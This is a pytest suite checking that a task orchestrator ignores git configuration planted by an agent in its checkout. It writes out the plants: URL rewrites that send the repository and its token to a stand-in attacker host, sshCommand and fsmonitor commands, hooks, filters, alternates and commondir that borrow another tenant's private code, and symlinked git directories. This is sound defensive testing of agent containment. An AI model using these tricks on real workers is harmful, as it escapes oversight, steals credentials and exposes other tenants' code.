"""An agent plants git configuration in its checkout; the next preparation of that service must not obey it.

Each test prepares the service once (a real clone over HTTP with the token),
then plants what an agent with Bash in the checkout could write into `.git/`,
then prepares the same service again, as the worker does before the next run.
Asserted every time: the command the plant would run never ran (it would
create a canary file), no request reached the stand-in for the attacker's host
with the token (or at all), and the preparation succeeded or failed with a
clear reason.
"""

from __future__ import annotations

import base64
import os
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from contextlib import nullcontext
from pathlib import Path

import pytest

from orchestrator.settings import Settings
from orchestrator.store import TaskStore
from orchestrator.workspace.git import Git, PermanentGitError
from orchestrator.workspace.gitdir import linked_paths
from orchestrator.workspace.worktree import checkout_worktree
from orchestrator.workspace.prepare import prepare_workspace
from tests.support.attacker_server import AttackerServer
from tests.support.git_server import GitHttpServer, git
from tests.workspace.conftest import TOKEN, files_containing, start_run, task_spec


@dataclass
class Scene:
    root: Path  # the service's checkout the agent worked in
    canary: Path  # a planted command creates this file
    attacker: AttackerServer
    server: GitHttpServer
    tmp: Path

    @property
    def git_dir(self) -> Path:
        """The service clone's `.git`: what the agent commits through (config, refs, objects, hooks)."""
        return self.root.parent.parent / ".clone" / ".git"

    @property
    def admin(self) -> Path:
        """The worktree's own metadata in the clone (HEAD, index, and a config.worktree if one is planted)."""
        return self.git_dir / "worktrees" / self.root.name

    @property
    def touch(self) -> str:
        return f"touch {self.canary}"


@pytest.fixture
def attacker() -> Iterator[AttackerServer]:
    server = AttackerServer()
    server.start()
    yield server
    server.stop()


def _redirect(scene: Scene) -> str:
    """A URL rewrite more specific than the tests' own, sending the repository to the attacker."""
    return f'[url "{scene.attacker.url}acme/"]\n\tinsteadOf = https://git.example.test/acme/\n'


def _enable_worktree_config(scene: Scene, text: str) -> None:
    git("config", "extensions.worktreeConfig", "true", cwd=scene.root)
    (scene.git_dir / "config.worktree").write_text(text)
    (scene.admin / "config.worktree").write_text(text)


def plant_worktree_config(scene: Scene) -> None:
    _enable_worktree_config(scene, _redirect(scene))


def plant_attributes_filter(scene: Scene) -> None:
    (scene.git_dir / "info" / "attributes").write_text("* filter=pwn\n")
    _enable_worktree_config(scene, f'[filter "pwn"]\n\tclean = {scene.touch}; cat\n'
                                   f'\tsmudge = {scene.touch}; cat\n')
    (scene.root / "README.md").write_text("changed by the agent\n")  # so checkout rewrites it


def plant_alternates(scene: Scene) -> None:
    # Another service's private repository on the same volume; the agent borrows its objects
    # and points its task branch at a commit that exists only there.
    other = scene.tmp / "other-service"
    git("init", "-q", "-b", "main", str(other))
    (other / "SECRET.md").write_text("another tenant's code\n")
    git("add", "SECRET.md", cwd=other)
    git("commit", "-qm", "private", cwd=other)
    foreign = git("rev-parse", "HEAD", cwd=other)
    (scene.git_dir / "objects" / "info" / "alternates").write_text(f"{other / '.git' / 'objects'}\n")
    git("update-ref", "refs/heads/task-7", foreign, cwd=scene.root)


def plant_commondir(scene: Scene) -> None:
    # `commondir` makes git take refs, objects and config from another directory the agent filled.
    common = scene.tmp / "agent-common"
    subprocess.run(["cp", "-a", str(scene.git_dir), str(common)], check=True)
    (common / "config").write_text((common / "config").read_text() + _redirect(scene))
    (scene.git_dir / "commondir").write_text(f"{common}\n")
    (scene.admin / "commondir").write_text(f"{common}\n")


def plant_include(scene: Scene) -> None:
    evil = scene.tmp / "evil.gitconfig"
    evil.write_text(_redirect(scene) + f'[core]\n\tfsmonitor = "{scene.touch}; false"\n')
    git("config", "include.path", str(evil), cwd=scene.root)
    git("config", f"includeIf.gitdir:{scene.root}/.path", str(evil), cwd=scene.root)


def plant_include_loop_and_fifo(scene: Scene) -> None:
    # Reading the config must not follow these: a loop made git fail, a FIFO made it wait.
    loop, fifo = scene.tmp / "loop.gitconfig", scene.tmp / "fifo.gitconfig"
    loop.write_text(f"[include]\n\tpath = {loop}\n" + _redirect(scene))
    os.mkfifo(fifo)
    with (scene.git_dir / "config").open("a") as config:
        config.write(f"[include]\n\tpath = {loop}\n\tpath = {fifo}\n")


def plant_hooks_path(scene: Scene) -> None:
    hooks = scene.tmp / "agent-hooks"
    hooks.mkdir()
    for name in ("post-checkout", "reference-transaction", "pre-auto-gc"):
        (hooks / name).write_text(f"#!/bin/sh\n{scene.touch}\n")
        (hooks / name).chmod(0o755)
    _enable_worktree_config(scene, f"[core]\n\thooksPath = {hooks}\n")
    git("config", "core.hooksPath", str(hooks), cwd=scene.root)


def plant_hooks(scene: Scene) -> None:
    for name in ("post-checkout", "reference-transaction", "pre-auto-gc", "fsmonitor-watchman"):
        hook = scene.git_dir / "hooks" / name
        hook.write_text(f"#!/bin/sh\n{scene.touch}\n")
        hook.chmod(0o755)


def plant_fsmonitor(scene: Scene) -> None:
    _enable_worktree_config(scene, f'[core]\n\tfsmonitor = "{scene.touch}; false"\n')
    git("config", "core.fsmonitor", f"{scene.touch}; false", cwd=scene.root)


def plant_ssh_command(scene: Scene) -> None:
    _enable_worktree_config(
        scene, f'[core]\n\tsshCommand = "{scene.touch}; false"\n'
               '[url "ssh://git@attacker.invalid/acme/"]\n\tinsteadOf = https://git.example.test/acme/\n')


def plant_insteadof(scene: Scene) -> None:
    (scene.git_dir / "config").write_text(
        (scene.git_dir / "config").read_text() + _redirect(scene).replace("[url", "[URL"))


PLANTS: dict[str, Callable[[Scene], None]] = {
    "worktree-config": plant_worktree_config,
    "info-attributes-filter": plant_attributes_filter,
    "alternates": plant_alternates,
    "commondir": plant_commondir,
    "include-and-includeIf": plant_include,
    "include-loop-and-fifo": plant_include_loop_and_fifo,
    "core-hooksPath": plant_hooks_path,
    "hooks-in-git-dir": plant_hooks,
    "core-fsmonitor": plant_fsmonitor,
    "core-sshCommand": plant_ssh_command,
    "url-insteadOf": plant_insteadof,
}


@pytest.mark.parametrize("plant", list(PLANTS.values()), ids=list(PLANTS))
def test_what_an_agent_plants_in_git_is_not_obeyed(plant: Callable[[Scene], None], remote: Path,
                                                   git_server: GitHttpServer, attacker: AttackerServer,
                                                   ws_settings: Settings, store: TaskStore,
                                                   tmp_path: Path) -> None:
    spec = task_spec(repository={"url": "https://git.example.test/acme/shop.git", "branch": "main"})
    first = prepare_workspace(store, ws_settings, start_run(store, spec))
    scene = Scene(root=first.path, canary=tmp_path / "canary", attacker=attacker, server=git_server,
                  tmp=tmp_path)
    plant(scene)
    # The next run of the task (a retry) is prepared in the same service directory.
    run = store.create_run("shop", 7, version=1, attempt=2)
    store.update_task("shop", 7, current_run=run.run_id)

    second = prepare_workspace(store, ws_settings, run.run_id)

    assert not scene.canary.exists(), "a command the agent planted ran in the worker"
    assert attacker.requests == [], "git talked to the agent's host"
    assert second.branch == "task-7" and second.commit == git("rev-parse", "main", cwd=remote)
    assert not (scene.root / "SECRET.md").exists()
    git_dir = scene.git_dir
    for planted in ("config.worktree", "info/attributes", "objects/info/alternates", "commondir"):
        assert not (git_dir / planted).exists(), planted
    hooks = git_dir / "hooks"
    assert not hooks.exists() or all(p.name.endswith(".sample") for p in hooks.iterdir())
    config = git("config", "--file", str(git_dir / "config"), "--list")
    for word in ("extensions", "include", "url.", "hookspath", "fsmonitor", "sshcommand", "filter"):
        assert word not in config.lower(), config
    assert "remote.origin.url=https://git.example.test/acme/shop.git" in config
    assert files_containing(ws_settings.workspace_root, TOKEN) == []


def test_an_unreadable_config_fails_the_preparation_with_a_clear_reason(remote: Path, ws_settings: Settings,
                                                                       store: TaskStore) -> None:
    spec = task_spec(repository={"url": "https://git.example.test/acme/shop.git", "branch": "main"})
    first = prepare_workspace(store, ws_settings, start_run(store, spec))
    (first.path.parent.parent / ".clone" / ".git" / "config").write_text("[core\n\tthis is not git's syntax\n")
    run = store.create_run("shop", 7, version=1, attempt=2)
    with pytest.raises(PermanentGitError, match=r"\.git/config cannot be read"):
        prepare_workspace(store, ws_settings, run.run_id)


def test_git_directories_linked_elsewhere_are_refused(remote: Path, ws_settings: Settings, store: TaskStore,
                                                      tmp_path: Path) -> None:
    """`.git/objects` as a link to another service's objects (a copy of ours plus its private commit)
    would check that service's code out here, as alternates would."""
    spec = task_spec(repository={"url": "https://git.example.test/acme/shop.git", "branch": "main"})
    first = prepare_workspace(store, ws_settings, start_run(store, spec))
    other = tmp_path / "other-service"
    git("init", "-q", "-b", "main", str(other))
    (other / "SECRET.md").write_text("another tenant's code\n")
    git("add", "SECRET.md", cwd=other)
    git("commit", "-qm", "private", cwd=other)
    foreign = git("rev-parse", "HEAD", cwd=other)
    objects = first.path.parent.parent / ".clone" / ".git" / "objects"
    subprocess.run(["cp", "-a", f"{objects}/.", str(other / ".git" / "objects")], check=True)
    subprocess.run(["rm", "-rf", str(objects)], check=True)
    objects.symlink_to(other / ".git" / "objects")
    git("update-ref", "refs/heads/task-7", foreign, cwd=first.path)
    run = store.create_run("shop", 7, version=1, attempt=2)
    try:
        with pytest.raises(PermanentGitError, match=r"symbolic links \(objects\)"):
            prepare_workspace(store, ws_settings, run.run_id)
    finally:
        assert not (first.path / "SECRET.md").exists(), "another service's code was checked out here"


@pytest.mark.parametrize("link", ["refs/heads/task-7", "packed-refs", "logs/HEAD", "objects/pack"])
def test_links_where_git_reads_refs_and_objects_are_found(tmp_path: Path, link: str) -> None:
    repo = tmp_path / "repo"
    git("init", "-q", str(repo))
    target = repo / ".git" / link
    target.parent.mkdir(parents=True, exist_ok=True)
    if target.is_dir():
        target.rmdir()
    target.symlink_to(tmp_path)
    assert linked_paths(repo / ".git") == [link]


def test_a_planted_file_behind_a_linked_directory_is_never_removed(remote: Path, ws_settings: Settings,
                                                                   store: TaskStore, tmp_path: Path) -> None:
    spec = task_spec(repository={"url": "https://git.example.test/acme/shop.git", "branch": "main"})
    first = prepare_workspace(store, ws_settings, start_run(store, spec))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "attributes").write_text("someone else's file\n")
    info = first.path.parent.parent / ".clone" / ".git" / "info"
    subprocess.run(["rm", "-rf", str(info)], check=True)
    info.symlink_to(elsewhere)
    run = store.create_run("shop", 7, version=1, attempt=2)
    with pytest.raises(Exception, match="symbolic link|not a directory|escape|outside"):
        prepare_workspace(store, ws_settings, run.run_id)
    assert (elsewhere / "attributes").read_text() == "someone else's file\n"
    # Below the workspace layer too (checkout_worktree alone): refused before anything is removed.
    clone = Git(first.path.parent.parent / ".clone", token=TOKEN, timeout=30, secrets=(TOKEN,))
    tree = Git(first.path, token=TOKEN, timeout=30, secrets=(TOKEN,), clone=clone.directory)
    with pytest.raises(PermanentGitError, match=r"symbolic links \(info\)"):
        checkout_worktree(clone, tree, url="https://git.example.test/acme/shop.git", base_branch="main",
                          branch="task-7", lock=nullcontext)
    assert (elsewhere / "attributes").exists()


def _credential_fill(repo: Git, protocol: str, host: str) -> str:
    """What git's credential machinery answers, with our configuration, for one protocol and host."""
    result = subprocess.run(["git", *repo._config_args(), "credential", "fill"], check=False, cwd=repo.directory,
                            env=repo._env(), input=f"protocol={protocol}\nhost={host}\npath=acme/shop.git\n\n",
                            capture_output=True, text=True, timeout=30)
    return result.stdout


def test_the_credential_helper_answers_only_for_the_repository_host(tmp_path: Path) -> None:
    repo = Git(tmp_path, token=TOKEN, timeout=30, secrets=(TOKEN,))
    git("init", "-q", str(tmp_path))
    repo.token_origin = ("https", "git.example.test")
    assert f"password={TOKEN}" in _credential_fill(repo, "https", "git.example.test")
    for protocol, host in (("https", "attacker.example"), ("http", "git.example.test"),
                           ("https", "git.example.test.attacker.example"), ("https", "git.example.test:8443")):
        assert TOKEN not in _credential_fill(repo, protocol, host), (protocol, host)
    repo.token_origin = None
    assert TOKEN not in _credential_fill(repo, "https", "git.example.test")


def test_a_redirect_to_another_host_gets_no_token(attacker: AttackerServer, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The repository's host sends git on to another host: git asks for credentials there, and gets none."""
    redirector = AttackerServer(redirect_to=attacker.url)
    redirector.start()
    try:
        monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
        monkeypatch.setenv("GIT_CONFIG_KEY_0", f"url.{redirector.url}.insteadOf")
        monkeypatch.setenv("GIT_CONFIG_VALUE_0", "https://git.example.test/")
        root = tmp_path / "ws" / "shop"
        clone = Git(root / ".clone", token=TOKEN, timeout=30, secrets=(TOKEN,))
        tree = Git(root / "worktrees" / "1", token=TOKEN, timeout=30, secrets=(TOKEN,), clone=clone.directory)
        with pytest.raises(PermanentGitError):
            checkout_worktree(clone, tree, url="https://git.example.test/acme/shop.git", base_branch="main",
                              branch="task-1", lock=nullcontext)
    finally:
        redirector.stop()
    assert redirector.requests and attacker.requests, "git followed the redirect"
    assert attacker.authorizations == [], "the token went to the host git was redirected to"


def test_a_rewrite_in_the_workers_own_configuration_still_gets_the_token(remote: Path, git_server: GitHttpServer,
                                                                        ws_settings: Settings,
                                                                        store: TaskStore) -> None:
    """The tests' git server is reached through a URL rewrite in git's environment (trusted ops config)."""
    prepare_workspace(store, ws_settings, start_run(store, task_spec()))
    sent = [base64.b64decode(h[6:]).decode() for h in git_server.auth_headers if h.startswith("Basic ")]
    assert sent and all(s.endswith(":" + TOKEN) for s in sent)
